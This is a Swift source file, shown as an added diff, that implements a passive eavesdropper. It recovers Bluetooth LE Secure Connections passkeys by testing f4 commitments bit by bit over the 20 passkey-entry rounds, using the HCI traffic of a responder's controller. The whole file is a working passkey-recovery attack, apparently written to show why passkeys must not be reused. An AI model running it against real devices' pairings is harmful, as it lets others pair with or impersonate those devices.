@@ -1,0 +1,134 @@
+public import BLEPackets
+import ByteCodec
+public import MonotonicTime
+
+/// Computes the passkeys of pairings from what anybody near them receives: the attack that makes a passkey of LE Secure
+/// Connections good for one pairing only.
+///
+/// Passkey entry reveals the passkey bit by bit: each of 20 rounds opens a commitment f4(PKbx, PKax, Nbi, 0x80 | bit)
+/// whose inputs except the bit are on the air (Core 5.4, Vol 3 Part H 2.3.5.6.3). One whole pairing gives all of it.
+///
+/// It sees the HCI packets of the responder's controller, and uses only those that crossed the air unencrypted.
+public struct PasskeyEavesdropper: Sendable {
+    /// The passkey of the last passkey entry that went through all rounds; `nil` before the first.
+    public private(set) var passkey: UInt32?
+
+    /// By connection handle.
+    private var connections: [UInt16: OverheardConnection] = [:]
+
+    /// An eavesdropper that has heard nothing.
+    public init() {}
+
+    /// Takes one packet between the responder's host and its controller. Packets that make no sense are ignored.
+    public mutating func observe(_ packet: HCIPacket, isFromHost: Bool, now: MonotonicInstant) {
+        switch packet.kind {
+        case .acl:
+            guard let (header, payload) = try? HCIACLHeader.decode(packet.bytes) else { return }
+            let found = connections[header.handle, default: OverheardConnection()]
+                .receive(header.boundary, payload, isFromResponder: isFromHost, now: now)
+            if let found { passkey = found }
+        case .event: observe(event: packet.bytes)
+        case .command, .synchronous: break
+        }
+    }
+
+    private mutating func observe(event bytes: [UInt8]) {
+        guard let event = try? HCIAnyEvent(decoding: bytes[...]) else { return }
+        switch event.code {
+        case .leMeta:
+            // A board that lost its power never saw the last connection of this handle end.
+            if let handle = event.connectedHandle { connections[handle] = nil }
+        case .encryptionChange:
+            guard let change = try? HCIEncryptionChange(event), change.status == .success else { return }
+            connections[change.handle, default: OverheardConnection()].isEncrypted = change.encryptionEnabled != 0
+        case .disconnectionComplete:
+            guard let end = try? HCIDisconnectionComplete(event), end.status == .success else { return }
+            connections[end.handle] = nil
+        default: break
+        }
+    }
+}
+
+/// What was overheard on one connection.
+private struct OverheardConnection {
+    var isEncrypted = false
+    private var fromInitiator = L2CAPReassembler()
+    private var fromResponder = L2CAPReassembler()
+    private var pairing = OverheardPairing()
+
+    /// Takes an ACL fragment; returns the passkey that it completes.
+    mutating func receive(
+        _ boundary: HCIACLHeader.Boundary, _ fragment: ArraySlice<UInt8>, isFromResponder: Bool, now: MonotonicInstant
+    ) -> UInt32? {
+        guard !isEncrypted else { return nil }
+        // Hosts send first fragments with another flag than controllers do.
+        let boundary = boundary == .firstNonFlushable ? .firstFlushable : boundary
+        let outcome =
+            isFromResponder
+            ? fromResponder.receive(boundary, fragment, now: now) : fromInitiator.receive(boundary, fragment, now: now)
+        guard case .frame(let frame) = outcome, frame.channel == .securityManager else { return nil }
+        return pairing.receive(frame.payload, isFromResponder: isFromResponder)
+    }
+}
+
+/// What was overheard of one pairing.
+private struct OverheardPairing {
+    /// The rounds of passkey entry, one for each bit.
+    private static let rounds = 20
+
+    /// The X coordinates of the public keys.
+    private var initiatorKey: ArraySlice<UInt8>?
+    private var responderKey: ArraySlice<UInt8>?
+    /// The responder's commitment of the round.
+    private var commitment: UInt128?
+    private var passkey: UInt32 = 0
+    private var round = 0
+
+    /// Takes a PDU of the Security Manager; returns the passkey that it completes.
+    mutating func receive(_ pdu: ArraySlice<UInt8>, isFromResponder: Bool) -> UInt32? {
+        switch pdu.first.map({ SMPOpcode(rawValue: $0) }) {
+        case .pairingRequest?: self = OverheardPairing()
+        case .pairingPublicKey?:
+            guard let key = try? SMPPairingPublicKey(decoding: pdu) else { return nil }
+            if isFromResponder { responderKey = key.x } else { initiatorKey = key.x }
+        case .pairingConfirm?:
+            guard isFromResponder else { return nil }
+            commitment = try? SMPPairingConfirm(decoding: pdu).value
+        case .pairingRandom?:
+            guard isFromResponder, let random = try? SMPPairingRandom(decoding: pdu) else { return nil }
+            return open(with: random.value)
+        default: break
+        }
+        return nil
+    }
+
+    /// Finds the bit that the responder committed to; returns the passkey after the last.
+    private mutating func open(with random: UInt128) -> UInt32? {
+        guard let initiatorKey, let responderKey, let commitment = commitment.take(), round < Self.rounds else {
+            return nil
+        }
+        func isCommitted(to bit: UInt8) -> Bool {
+            SecurityToolbox.f4(u: responderKey, v: initiatorKey, x: random, z: 0x80 | bit) == commitment
+        }
+        if isCommitted(to: 1) {
+            passkey |= 1 << UInt32(round)
+        } else if !isCommitted(to: 0) {
+            // Another association model, or bytes that somebody changed.
+            round = Self.rounds
+            return nil
+        }
+        round += 1
+        return round == Self.rounds ? passkey : nil
+    }
+}
+
+extension HCIAnyEvent {
+    /// The connection that this event says was made.
+    fileprivate var connectedHandle: UInt16? {
+        switch subevent {
+        case .connectionComplete?: (try? HCILEConnectionComplete(self))?.handle
+        case .enhancedConnectionComplete?: (try? HCILEEnhancedConnectionComplete(self))?.handle
+        default: nil
+        }
+    }
+}
